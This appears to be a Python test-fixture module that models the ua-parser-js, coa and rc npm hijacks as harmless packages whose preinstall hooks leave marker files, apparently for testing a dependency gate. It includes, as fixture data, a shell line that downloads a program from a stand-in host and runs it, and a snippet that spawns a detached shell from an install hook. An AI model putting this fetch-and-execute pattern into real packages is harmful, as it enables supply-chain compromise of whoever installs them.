"""Account takeovers of the past, rebuilt as harmless packages of the same shape at the moment the bad releases came out.

Names, versions, hooks and who published are those of the incidents (public advisories and issue threads, named per entry);
every payload is a stand-in that leaves a marker file where a test looks for it.
"""

import dataclasses

from clients import marker_script
from fixture_registry import Package, Release, days_ago

# What the real hooks did next, as text: start a shell that fetches a program. The branch is never taken (nobody sets the
# variable) and the host does not exist (RFC 2606).
SECOND_STAGE = """\
if (process.env.NPM_GATE_TEST_NEVER_SET) {
  require('child_process').spawn('/bin/sh', ['stage2.sh'], { detached: true });
}
"""
SECOND_STAGE_SHELL = "curl -s http://payload.example/jsextension -o jsextension && chmod +x jsextension && ./jsextension\n"


@dataclasses.dataclass(frozen=True)
class Incident:
    """One hijacked package. `lines`: range a project would have -> the last good version it must get (None: nothing to get)."""

    name: str
    good: tuple
    bad: tuple
    latest: str  # where the dist-tag stood after the bad releases
    last_good: str
    hook: str
    command: str
    script: str  # the file that the hook runs
    lines: dict
    source: str
    last_good_age_days: float = 700.0

    def packages(self, bad_age_days=4.0):
        """The package as the registry showed it `bad_age_days` after the first bad release."""
        releases = []
        for position, version in enumerate(self.good):
            age = self.last_good_age_days + 60.0 * (len(self.good) - 1 - position)
            releases.append(Release(version, published=days_ago(age)))
        for position, version in enumerate(self.bad):
            # Minutes apart, as they were.
            published = days_ago(bad_age_days) + 60.0 * position
            releases.append(self.bad_release(version, published))
        return [Package(self.name, releases, tags={"latest": self.latest},
                        repository=f"git+https://git.example/fixtures/{self.name}.git")]

    def bad_release(self, version, published):
        """A hijacked release: the hook and the file it runs are new, the rest is as before."""
        files = {self.script: marker_script(self.marker(version)) + SECOND_STAGE, "stage2.sh": SECOND_STAGE_SHELL}
        return Release(version, published=published, files=files, manifest={"scripts": {self.hook: self.command}})

    def marker(self, version):
        """The name of the marker file that a bad release leaves when its hook runs."""
        return f"{self.name.replace('/', '+')}-{version}"


UA_PARSER_JS = Incident(
    name="ua-parser-js",
    good=("0.7.26", "0.7.27", "0.7.28"),
    bad=("0.7.29", "0.8.0", "1.0.0"),
    latest="1.0.0",
    last_good="0.7.28",
    hook="preinstall",
    command="start /B node preinstall.js & node preinstall.js",
    script="preinstall.js",
    lines={"^0.7.20": "0.7.28", "~0.7.28": "0.7.28", "latest": "0.7.28", "*": "0.7.28", "^0.8.0": None, "^1.0.0": None},
    source="GHSA-pjwm-rvh2-c87w",
    last_good_age_days=190.0,
)
COA = Incident(
    name="coa",
    good=("1.0.4", "2.0.1", "2.0.2"),
    bad=("2.0.3", "2.0.4", "2.1.1", "2.1.3", "3.0.1", "3.1.3"),
    latest="3.1.3",
    last_good="2.0.2",
    hook="preinstall",
    command="start /B node compile.js & node compile.js",
    script="compile.js",
    lines={"^2.0.0": "2.0.2", "~2.0.2": "2.0.2", "latest": "2.0.2", "*": "2.0.2", "^1.0.0": "1.0.4", "^3.0.0": None},
    source="github.com/veged/coa/issues/99",
    last_good_age_days=1050.0,
)
RC = Incident(
    name="rc",
    good=("1.2.6", "1.2.7", "1.2.8"),
    bad=("1.2.9", "1.3.9", "2.3.9"),
    latest="2.3.9",
    last_good="1.2.8",
    hook="preinstall",
    command="start /B node compile.js & node compile.js",
    script="compile.js",
    lines={"^1.2.7": "1.2.8", "~1.2.0": "1.2.8", "latest": "1.2.8", "*": "1.2.8", "^2.0.0": None},
    source="github.com/dominictarr/rc/issues/131",
    last_good_age_days=1260.0,
)
ALL = (UA_PARSER_JS, COA, RC)
